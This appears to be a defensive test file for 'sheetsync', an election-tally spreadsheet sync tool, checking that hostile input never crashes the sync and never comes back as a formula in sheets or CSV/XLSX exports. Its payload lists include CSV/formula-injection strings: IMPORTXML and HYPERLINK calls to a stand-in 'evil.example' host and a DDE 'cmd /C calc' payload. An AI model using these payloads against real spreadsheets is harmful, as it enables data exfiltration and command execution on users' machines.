"""Hostile and messy input through the whole sync: a person types it into the emulator
(USER_ENTERED, so formulas are formulas, or RAW, as pasted text), sheetsync syncs, and
the sheet is read back, also with FORMULA rendering and as userEnteredValue.

Promises:
- zero crashes: sync returns, or raises one of its documented errors (SyncError);
- every bad cell gets a message naming its column on its row;
- nothing a person typed is written back as a formula, nor as text that starts like one,
  anywhere sheetsync writes (status columns, summary tabs, Masalah) or exports (CSV, XLSX).
"""

from __future__ import annotations

import csv
import math
import random
from dataclasses import replace

import pytest
from hypothesis import HealthCheck, given, settings
from gspread.utils import rowcol_to_a1
from hypothesis import strategies as st

from sheetsync.core.check import check
from sheetsync.core.config import load_preset
from sheetsync.reports.export import export
from sheetsync.core.safetext import neutralise
from sheetsync.sync.run import SyncError
from sync_data import FULL_HEADER, tps_row, wilayah

COUNTS = ["DPT", "DPPh", "DPTb", "Paslon 1", "Paslon 2", "Paslon 3", "Suara Sah", "Suara Tidak Sah",
          "Pengguna Hak Pilih"]
TEXTS = ["Alamat", "Koordinator"]
FORMULAS = ['=IMPORTXML("http://evil.example/x","//a")', '=HYPERLINK("http://evil.example","klik")',
            "=1+1", "=SUM(E2:E4)", "=0/0", "=1e308*10", "+62812", "@SUM(1)", "-cmd|' /C calc'!A0"]
# Values no count column may accept, as a person types them; each must be flagged by name.
NEVER_A_COUNT = ["dua ratus", "مئتان", "מאתיים", "\u202e512", "👍🏽🇮🇩", "Ｔ", "NaN", "nan", "Infinity", "1e309",
                 "-1e309", "-5", "-0.5", "1.5", "TRUE", "FALSE", "27/11/2024", "27 Nov 2024", "12:30",
                 '=IMPORTXML("http://evil.example/x","//a")', '=HYPERLINK("http://evil.example","klik")',
                 "=0/0", "=1e308*10", "x" * 50_000, "9" * 400]
ANY_TEXT = st.one_of(
    st.text(st.characters(blacklist_categories=("Cs",)), max_size=40),
    st.sampled_from(FORMULAS + NEVER_A_COUNT + ["", " ", "100000000000000000000", "-999999999999"]),
    st.integers(-10**30, 10**30).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
)


def owned_columns(header: list) -> tuple[int, int]:
    return header.index("Status"), header.index("Keterangan")


def formula_problems(emu, sheet_id: str, config) -> list[str]:
    """Cells sheetsync owns that hold a formula, or text that would start one."""
    gc = emu.client()
    sh = gc.open_by_key(sheet_id)
    titles = [ws.title for ws in sh.worksheets()]
    quoted = ["'" + t.replace("'", "''") + "'" for t in titles]
    shown = {t: vr.get("values", []) for t, vr in zip(titles, sh.values_batch_get(
        quoted, params={"valueRenderOption": "FORMULA"})["valueRanges"])}
    grid = gc.http_client.fetch_sheet_metadata(sheet_id, {
        "includeGridData": "true", "fields": "sheets(properties.title,data.rowData.values.userEnteredValue)"})
    entered = {s["properties"]["title"]: [[c.get("userEnteredValue", {}) for c in row.get("values", [])]
                                          for row in (s.get("data") or [{}])[0].get("rowData", [])]
               for s in grid["sheets"]}
    status, message = owned_columns(shown[config.input_tab][0])
    bad = []
    for tab in titles:
        owned_tab = tab in config.summary_tabs.titles()
        if tab != config.input_tab and not owned_tab:
            continue
        for r, line in enumerate(shown[tab]):
            for c, value in enumerate(line):
                if not owned_tab and c not in (status, message):
                    continue
                uev = entered[tab][r][c] if r < len(entered[tab]) and c < len(entered[tab][r]) else {}
                # RAW stores "=..." as text: what must never be there is a formula
                if "formulaValue" in uev:
                    bad.append(f"{tab}!R{r + 1}C{c + 1} is a formula: {uev['formulaValue'][:60]}")
    return bad


@st.composite
def messy_sheets(draw):
    """A header with odd columns, a few rows, hostile cells at random places, maybe a merge."""
    rng = random.Random(draw(st.integers(0, 10**6)))
    header = list(FULL_HEADER)
    extra = draw(st.sampled_from([[], ["", "DPT"], ["Paslon 1"], ["", ""], ["Catatan ✍️", "ملاحظة"]]))
    if draw(st.booleans()):
        header[header.index("Alamat")] = ""                       # an empty header over filled cells
    rows = [tps_row(*rng.choice(wilayah()[:8]), rng.randint(1, 30), rng, FULL_HEADER)
            + [draw(ANY_TEXT) for _ in extra] for _ in range(draw(st.integers(2, 5)))]
    bad: set[tuple[int, str]] = set()
    for _ in range(draw(st.integers(1, 4))):
        r = draw(st.integers(0, len(rows) - 1))
        if draw(st.booleans()):
            col = draw(st.sampled_from(COUNTS))
            rows[r][FULL_HEADER.index(col)] = draw(st.sampled_from(NEVER_A_COUNT))
            bad.add((r + 2, col))
        else:
            rows[r][FULL_HEADER.index(draw(st.sampled_from(TEXTS)))] = draw(ANY_TEXT)
    merge = draw(st.sampled_from([None, "D2:D3", "O2:O3", "A2:B2"]))
    return {"values": [header + extra] + rows, "bad": bad, "merge": merge,
            "typed": draw(st.sampled_from(["USER_ENTERED", "RAW"]))}


def seed_messy(emu, case) -> tuple[str, dict]:
    gc = emu.client(token="koordinator")
    sh = gc.create("hostile")
    ws = sh.sheet1
    ws.update_title("TPS")
    ws.update(case["values"], "A1", value_input_option=case["typed"])
    if case["merge"]:
        ws.merge_cells(case["merge"])
    return sh.id, {"sh": sh, "ws": ws}


def run_sync(bench, emu, sheet_id: str):
    from sheetsync.sync.run import sync
    config = replace(bench.config, spreadsheet=sheet_id)
    try:
        return config, sync(config, client=emu.client(), lock_dir=bench.lock_dir), None
    except SyncError as exc:
        return config, None, exc


@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
@given(case=messy_sheets())
def test_hostile_cells_never_crash_are_named_and_never_come_back_as_formulas(bench, case):
    emu = bench.emu
    sheet_id, handles = seed_messy(emu, case)
    config, report, error = run_sync(bench, emu, sheet_id)     # anything else raised fails the test
    assert error is None, f"sync refused a messy sheet: {error}"
    grid = handles["ws"].get_all_values()
    status, message = owned_columns(grid[0])
    shown = {h for h in grid[0]}
    for row, column in sorted(case["bad"]):
        cell = grid[row - 1][FULL_HEADER.index(column)]
        line = grid[row - 1] + [""] * (message + 1)
        assert line[status] in ("SALAH", "PERIKSA"), f"row {row} {column}={cell[:40]!r}: {line[status]!r}"
        assert column in line[message], f"row {row}: {column}={cell[:40]!r} not named in {line[message][:200]!r}"
    assert shown                                              # header read back
    assert formula_problems(emu, sheet_id, config) == []
    report2 = run_sync(bench, emu, sheet_id)[1]
    assert report2 is not None and report2.cells_written == 0   # a second sync has nothing to say


def test_everything_hostile_at_once_then_exported_as_csv_and_xlsx(bench, tmp_path):
    """One sheet with every hostile value in the count and text columns, typed as a person
    would (formulas live), then synced and exported: no formula anywhere on the way out."""
    rng = random.Random(5)
    values = [FULL_HEADER + ["", "DPT", "Catatan"]]
    hostile = NEVER_A_COUNT + FORMULAS + ["\x07bell", "tab\tinside", "\rcarriage"]
    for i, text in enumerate(hostile):
        line = tps_row(*wilayah()[i % 8], i + 1, rng, FULL_HEADER) + ["", "", ""]
        line[FULL_HEADER.index(COUNTS[i % len(COUNTS)])] = text
        line[FULL_HEADER.index("Alamat")] = text
        line[FULL_HEADER.index("Koordinator")] = text
        line[-1] = text
        values.append(line)
    case = {"values": values, "typed": "USER_ENTERED", "merge": "D3:D4"}
    sheet_id, handles = seed_messy(bench.emu, case)
    config, report, error = run_sync(bench, bench.emu, sheet_id)
    assert error is None, error
    print("hostile sheet synced:", report.rows_by_status, report.issue_counts)
    assert formula_problems(bench.emu, sheet_id, config) == []
    for fmt in ("csv", "xlsx"):
        _assert_export_has_no_formula(config, bench, tmp_path / fmt, fmt)
    # the read-back check itself finds a planted formula; formula-looking text written RAW
    # is stored as text (userEnteredValue.stringValue), which is what sheetsync writes
    sh = bench.emu.client().open_by_key(sheet_id)
    sh.worksheet("Masalah").update([["=1+1"]], "A1", value_input_option="USER_ENTERED")
    message_col = owned_columns(sh.worksheet("TPS").row_values(1))[1] + 1
    sh.worksheet("TPS").update([["=cmd"]], rowcol_to_a1(2, message_col), value_input_option="RAW")
    found = formula_problems(bench.emu, sheet_id, config)
    assert found == ["Masalah!R1C1 is a formula: =1+1"], found


def _assert_export_has_no_formula(config, bench, out_dir, fmt: str) -> None:
    out = export(config, out_dir, fmt=fmt, client=bench.emu.client())
    cells = []
    for path in out.files:
        if fmt == "csv":
            with open(path, encoding="utf-8-sig", newline="") as fh:
                cells += [c for row in csv.reader(fh) for c in row]
        else:
            from openpyxl import load_workbook
            book = load_workbook(path)
            for ws in book.worksheets:
                for row in ws.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                        cells.append(cell.value)
    starts = [c for c in cells if isinstance(c, str) and neutralise(c) != c]   # not yet inert
    assert starts == [], f"{fmt}: {[s[:40] for s in starts[:5]]}"


PY_VALUES = st.one_of(st.none(), st.booleans(), st.integers(-10**30, 10**30),
                      st.floats(allow_nan=True, allow_infinity=True), st.just(1e309), st.just(float("nan")),
                      st.text(max_size=20), st.sampled_from(FORMULAS))


@settings(max_examples=120, deadline=None, derandomize=True)
@given(cells=st.lists(st.lists(PY_VALUES, min_size=0, max_size=len(FULL_HEADER) + 2), min_size=1, max_size=6))
def test_check_takes_any_python_cell_value(cells):
    """The core call behind sync, with the Python types the contract allows (str, int, float,
    bool, missing) and the ones a careless caller passes (None, NaN, inf): never a crash;
    a count that is not a whole number >= 0 is named on its row. NaN and None are blank
    (cells.is_blank); a bool is read as 0/1 by design (cells.parse_int)."""
    config = load_preset("pilkada-jakbar-2024")
    result = check([list(FULL_HEADER)] + cells, config)
    named = {(i.row, i.field) for i in result.issues}
    fields = {c.header: c.field for c in config.columns}
    for r, line in enumerate(cells, start=2):
        for c, value in enumerate(line[:len(FULL_HEADER)]):
            header = FULL_HEADER[c]
            if header not in COUNTS or isinstance(value, bool) or value is None:
                continue
            if isinstance(value, float) and (math.isinf(value) or (not math.isnan(value) and
                                             (not value.is_integer() or value < 0))) \
                    or isinstance(value, int) and value < 0:
                assert (r, fields[header]) in named, f"row {r} {header}={value!r}: {result.status_of(r)}"


@pytest.mark.parametrize("huge", [2**63, 1e19])
def test_check_names_a_count_too_big_for_int64(huge):
    """A Python int or integral float past int64 used to raise OverflowError in the core
    (reported by this suite; fixed in cells.parse_int_column)."""
    config = load_preset("pilkada-jakbar-2024")
    result = check([list(FULL_HEADER), ["Cengkareng", "Cengkareng Barat", "1", "", huge]], config)
    assert ("dpt" in {i.field for i in result.issues if i.row == 2})
